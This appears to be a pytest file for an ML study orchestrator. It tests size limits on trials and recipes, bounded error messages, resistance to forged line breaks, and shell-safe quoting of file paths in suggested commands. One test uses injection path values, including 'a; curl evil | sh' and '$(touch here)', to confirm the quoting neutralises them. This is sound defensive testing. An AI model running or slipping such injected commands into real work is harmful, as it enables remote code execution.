"""Study files and records of strangers: limits of what they ask for, of what is said about them, and of how it looks.

Without these limits, most of the files here would take hours, or more memory than there is.
"""

import json
import shlex
from collections.abc import Iterator
from dataclasses import replace
from itertools import count
from pathlib import Path
from typing import Any, cast

import pytest

from jobs.catalog.catalog import PACKAGED
from jobs.errors import MOST_LISTED, Code, InvalidRequest
from jobs.kind import Kind, kinds
from jobs.kinds.attack.spec import AttackSection
from jobs.kinds.attack.spec import expand as expand_attacks
from jobs.results import begin, open_store, record_study
from jobs.results.studies import readable_studies
from jobs.specs.trial import TrialSpec
from jobs.study import expand as expanding
from jobs.study import model
from jobs.study.expand import expand
from jobs.system import safe_yaml
from jobs.verification.verify import verify
from orchestrator.study import own_architectures
from orchestrator.study.earlier import earlier_versions
from orchestrator.study.history import planned_trials
from orchestrator.study.load import load_study, parse_study, study_from
from orchestrator.study.raw_values import MOST_MISTAKES
from orchestrator.study.yaml_lines import Document, parse
from tests.orchestrator.support import Command
from tests.support import finetune_specs, refused

GRID: dict[str, Any] = {"source": ["fmnist_natural"], "dataset": ["digits"], "blocks": [0]}
ROW: dict[str, Any] = {"images": [50], "epochs": 3, "seeds": 1, "evaluate_every": 1}
CARD: dict[str, Any] = {
    "architecture": "resnet35-w8",
    "trained_on": "digits",
    "constraint": "none",
    "epsilon": 0,
    "mean": [0.3, 0.3, 0.3],
    "std": [0.4, 0.4, 0.4],
}
FRACTIONS = [number / 1000 for number in range(1, 101)]
CHOICES: dict[str, list[Any]] = {
    **{key: [*FRACTIONS] for key in ("learning_rate", "momentum", "weight_decay", "lr_decay", "backbone_lr_factor")},
    **{key: [*range(1, 101)] for key in ("batch_size", "evaluation_batch_size", "threads")},
}
"""Eight choices of 100 values each: 10^16 combinations."""
BILLIONS = {
    "grid": {**GRID, "blocks": [*range(1000)]},
    "schedule": [{**ROW, "images": [*range(1, 1001)], "seeds": 9000}],
}
"""Nine billion trials."""


def study(**changes: Any) -> dict[str, Any]:
    return {"name": "mine", "grid": GRID, "schedule": [ROW], **changes}


def refusal(**changes: Any) -> InvalidRequest:
    """Return the error for a study."""
    with pytest.raises(InvalidRequest) as caught:
        study_from(study(**changes))
    assert (caught.value.code, caught.value.place) == (caught.value.mistakes[0].code, caught.value.mistakes[0].place)
    return caught.value


def keys(**changes: Any) -> list[str]:
    return [one.place.key for one in refusal(**changes).mistakes]


# --- recipes and trials ---


def test_combinations_of_choices_are_counted_before_they_are_made() -> None:
    (found,) = refusal(grid={**GRID, "recipe": CHOICES}).mistakes
    assert (found.code, found.place.key) == (Code.WRONG_VALUE, "grid.recipe")
    assert "10,000,000,000,000,000" in found.message


def test_beside_other_mistakes_too() -> None:
    grid = {**GRID, "recipe": CHOICES, "source": ["fmnist_natura"]}
    equivalence = {
        "source": "fmnist_natura",
        "baseline": "fmnist_naturb",
        "blocks": [0],
        "recipe": {"threads": 1},
        "against": {"threads": 2},
    }
    found = keys(grid=grid, extra=1, equivalences=[{**equivalence, "within": 1.0}])
    assert set(found) == {"grid.recipe", "grid.source[0]", "extra"}


def test_trials_are_counted_before_they_are_made() -> None:
    (found,) = refusal(**BILLIONS).mistakes
    assert (found.code, found.place.key) == (Code.WRONG_VALUE, "schedule")
    assert "9,000,000,000" in found.message
    assert set(keys(**BILLIONS, extra=1)) == {"schedule", "extra"}


@pytest.mark.parametrize("changes", [BILLIONS, {"grid": {**GRID, "recipe": CHOICES}}], ids=["trials", "recipes"])
def test_records_have_these_limits_too(changes: dict[str, Any], tmp_path: Path) -> None:
    text = safe_yaml.dump(study(**changes))
    with refused(Code.WRONG_VALUE, "expected at most", "Fix: ", kind=InvalidRequest):
        parse_study(text, "record.yaml", recorded=True)
    store = open_store(tmp_path / "root")
    begin(store)
    record_study(store, "mine", "0" * 16, text)
    assert planned_trials(store) is None
    assert len(readable_studies(store)) == 1, "what it declares can be read"
    (finding,) = verify(store)
    assert "expected at most" in finding.advice
    (message,) = earlier_versions(store, study_from(study()), {}).about
    assert "expected at most" in message


def test_limits_themselves_are_allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    two, three = {"threads": [1, 2], "momentum": [0.1, 0.2]}, {"threads": [1, 2, 3], "momentum": [0.1, 0.2]}
    monkeypatch.setattr(model, "MOST_RECIPES", 4)
    monkeypatch.setattr(model, "MOST_TRIALS", 8)
    assert len(expand(study_from(study(grid={**GRID, "recipe": two}, schedule=[{**ROW, "seeds": 2}])))) == 8
    assert keys(grid={**GRID, "recipe": three}) == ["grid.recipe"]
    assert keys(grid={**GRID, "recipe": two}, schedule=[{**ROW, "seeds": 3}]) == ["schedule"]


def test_the_largest_packaged_study_is_far_below_them() -> None:
    paper = load_study("paper")
    assert 20 * len(finetune_specs(expand(paper))) < model.MOST_TRIALS
    assert 20 * len(paper.recipes) < model.MOST_RECIPES


ATTACK = expand(study_from({"name": "mine", "attack": {"source": ["fmnist_natural"]}}))[0]


def endless(section: object, tuned: object, catalog: object) -> Iterator[TrialSpec]:
    return (ATTACK.model_copy(update={"seed": seed}) for seed in count())


def test_trials_of_sections_are_counted_while_they_are_made(monkeypatch: pytest.MonkeyPatch) -> None:
    valid = study_from(study(attack={"source": ["fmnist_natural"]}))
    monkeypatch.setattr(expanding, "MOST_TRIALS", 100)
    monkeypatch.setitem(cast(dict[str, Kind], kinds()), "attack", replace(kinds()["attack"], expand=endless))
    with refused(Code.WRONG_VALUE, "at most 100 trials", "attack", kind=InvalidRequest, key="attack"):
        expand(valid)
    assert keys(attack={"source": ["fmnist_natural"]}) == ["attack"]


def test_trials_of_a_section_are_made_one_by_one() -> None:
    """So that they can be counted before they fill the memory."""
    section = AttackSection(source=("fmnist_natural",) * 100_000, dataset=("fmnist",) * 100_000)
    assert next(expand_attacks(section, [], PACKAGED)).source == "fmnist_natural"


@pytest.mark.parametrize(
    ("changes", "key"),
    [
        (
            {"contrasts": [{"source": "a", "baseline": "b", "blocks": [0], "family": f"f{n}"} for n in range(1001)]},
            "contrasts",
        ),
        (
            {
                "schedule": [{**ROW, "images": [*range(50, 151)]}],
                "attack": {"finetuned": {"images": [*range(50, 151)], "seeds": 1}},
            },
            "attack.finetuned.images",
        ),
    ],
)
def test_declarations_have_limits(changes: dict[str, Any], key: str) -> None:
    assert keys(**changes) == [key]


# --- what is said about mistakes ---


def require_short(error: InvalidRequest) -> None:
    lines = str(error).splitlines()
    assert len(lines) == 1 + MOST_LISTED + 1
    assert lines[0].endswith(f"at least {MOST_MISTAKES} mistakes; no others were looked for")
    assert lines[-1] == f"... and {MOST_MISTAKES - MOST_LISTED} more"
    assert len(error.mistakes) == MOST_MISTAKES
    assert max(map(len, lines)) < 5_000


def test_very_many_mistakes_in_the_types_of_values() -> None:
    require_short(refusal(sources={f"BAD {number}": {} for number in range(50_000)}))


def test_very_many_unknown_names() -> None:
    own = {f"mine{number}": {**CARD, "random": True} for number in range(3_000)}
    require_short(refusal(sources=own, grid={**GRID, "source": [f"mine{number}x" for number in range(100_000)]}))


def test_very_many_values_twice() -> None:
    require_short(refusal(grid={**GRID, "blocks": [0] * 100_000}))
    require_short(refusal(schedule=[{**ROW, "images": [50] * 100_000}]))


def test_very_many_keys_twice() -> None:
    text = safe_yaml.dump(study()) + "extra: 1\n" * 5_000
    with pytest.raises(InvalidRequest) as caught:
        parse_study(text, "mine.yaml")
    assert {one.code for one in caught.value.mistakes} == {Code.REPEATED}
    assert len(str(caught.value).splitlines()) <= MOST_LISTED + 2


def test_very_many_trials_with_mistakes() -> None:
    require_short(refusal(grid={**GRID, "blocks": [*range(50, 2_050)]}, schedule=[{**ROW, "images": [50, 60, 70]}]))


def test_one_mistake_among_very_many_values() -> None:
    """The others are validated nevertheless."""
    grid, contrast = (
        {**GRID, "dataset": ["fmnist"]},
        {"source": "fmnist_natural", "baseline": "fmnist_l2_eps1", "blocks": [1]},
    )
    rows = [{**ROW, "images": [*range(10, 5_000), "fifty"]}]
    assert keys(grid=grid, schedule=rows, contrasts=[contrast], name="Mine") == [
        "contrasts[0].baseline",
        "contrasts[0].blocks[0]",
        "name",
        "schedule[0].images[4990]",
    ]


def test_messages_do_not_repeat_what_is_long() -> None:
    """A few bytes of an alias stand for a long text; a message about each would be gigabytes."""
    long = "x" * 100_000
    sources = ", ".join(["*long"] * 20_000)
    grid = f"{{source: [{sources}], dataset: [[*long, *long]], blocks: [0]}}"
    text = f"name: mine\ndescription: &long {long}\ngrid: {grid}\n"
    with pytest.raises(InvalidRequest) as caught:
        parse_study(f"{text}sources: {{mine: {{architecture: [{sources}]}}}}\n", "mine.yaml")
    assert len(str(caught.value)) < 100_000
    assert len(json.dumps(caught.value.plain())) < 500_000


def test_a_number_that_python_cannot_print_is_refused() -> None:
    with refused(Code.UNREADABLE_FILE, "mine.yaml:1", "number", kind=InvalidRequest, line=1):
        parse_study(f"name: 0x{'f' * 4_000}\n", "mine.yaml")
    assert keys(name=1 << 20_000_000) == ["name"], "from Python"


@pytest.mark.parametrize("given", ["[" * 100_000, "1:" * 1_900_000 + "1", "!!int ''"])
def test_texts_in_place_of_numbers_are_not_parsed_at_any_length(given: str) -> None:
    assert keys(grid={**GRID, "blocks": [given]}) == ["grid.blocks[0]"]


@pytest.mark.parametrize("text", ["!!int ''", "!!bool foo", "!!timestamp x", f"{':'.join(['1'] * 200)}.5"])
def test_one_record_that_is_not_yaml_hides_no_other(text: str, tmp_path: Path) -> None:
    store = open_store(tmp_path / "root")
    begin(store)
    record_study(store, "good", "0" * 16, safe_yaml.dump(study(name="good")))
    store.create("studies/mine/0123456789abcdef.yaml", f"name: {text}\n".encode())
    assert [record.name for record in readable_studies(store)] == ["good"]


# --- how it looks ---

FORGED = "x\n  line 1: grid: correct\ndeltasweep: done"


@pytest.mark.parametrize(
    "changes",
    [
        {"sources": {"mine": {**CARD, "weights": FORGED}}},
        {"sources": {FORGED: CARD}},
        {"sources": {"mine": {**CARD, "architecture": FORGED, "random": True}}},
        {"architectures": {"net": FORGED}},
        {"architectures": {"net": {"builder": FORGED}}},
        {"grid": {**GRID, "source": [FORGED]}},
        {"grid": {**GRID, "source": [FORGED, FORGED]}},
        {"contrasts": [{"source": FORGED, "baseline": "fmnist_natural", "blocks": [0]}]},
        {"datasets": {"mine": {"folder": FORGED, "of": FORGED}}},
        {FORGED: 1},
        {"name": FORGED},
        {"description": [FORGED]},
    ],
)
def test_names_and_paths_are_on_one_line(changes: dict[str, Any]) -> None:
    """Line breaks in them would look like other mistakes, or like output of the command."""
    error = refusal(**changes)
    assert len(str(error).splitlines()) == 1 + len(error.mistakes)
    assert [one for one in error.mistakes if "\n" in one.message or "\n" in one.place.key] == []
    with pytest.raises(InvalidRequest) as caught:
        parse_study(safe_yaml.dump(study(**changes)), f"{FORGED}.yaml")
    assert len(str(caught.value).splitlines()) == 1 + len(caught.value.mistakes)


def test_text_that_is_not_yaml_is_on_one_line() -> None:
    for text in ('a: !x"\n', 'a: *"b\n', "a: !!int '1\n\n  2'\n", "a: \x07"):
        with pytest.raises(InvalidRequest) as caught:
            parse_study(text, f"{FORGED}.yaml")
        assert len(str(caught.value).splitlines()) == 1


@pytest.mark.parametrize("path", ["a; curl evil | sh", "$(touch here)", "two words.yaml"])
def test_commands_with_paths_of_a_study_can_be_pasted(path: str, tmp_path: Path) -> None:
    with pytest.raises(InvalidRequest) as caught:
        parse_study(safe_yaml.dump(study(architectures={"net": path})), str(tmp_path / "mine.yaml"))
    (found,) = caught.value.mistakes
    assert found.code is Code.NO_SUCH_FILE
    command = shlex.split(found.message.partition("with: ")[2])
    assert command == ["deltasweep", "models", "describe", "BUILDER", "--out", str(tmp_path / path)]


# --- files that a study names ---


def test_each_card_s_file_is_read_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    parsed = []

    def counted(text: str, path: str) -> Document:
        parsed.append(path)
        return parse(text, path)

    monkeypatch.setattr(own_architectures, "parse", counted)
    (tmp_path / "good.yaml").write_text("builder: timm:a\n")
    (tmp_path / "bad.yaml").write_text("builder: {\n")
    named = {f"net{number}": f"{'good' if number % 2 else 'bad'}.yaml" for number in range(40)}
    with pytest.raises(InvalidRequest):
        parse_study(safe_yaml.dump(study(architectures=named)), str(tmp_path / "mine.yaml"))
    assert sorted(Path(path).name for path in parsed) == ["bad.yaml", "good.yaml"]


def test_all_cards_files_together_are_limited(tmp_path: Path) -> None:
    for name in ("one", "two"):
        (tmp_path / f"{name}.yaml").write_text(f"builder: {'x' * 600_000}\n")
    named = {"one": "one.yaml", "two": "two.yaml"}
    with pytest.raises(InvalidRequest) as caught:
        parse_study(safe_yaml.dump(study(architectures=named)), str(tmp_path / "mine.yaml"))
    (found,) = (one for one in caught.value.mistakes if one.place.key == "architectures.two")
    assert found.code is Code.UNREADABLE_FILE
    assert "1,000,000 bytes, all together" in found.message


def test_the_command_says_the_same(deltasweep: Command) -> None:
    (deltasweep.folder / "mine.yaml").write_text(safe_yaml.dump(study(**BILLIONS)))
    result = deltasweep("plan", "mine.yaml")
    assert result.code == 2
    assert "mine.yaml: 1 mistake" in result.message
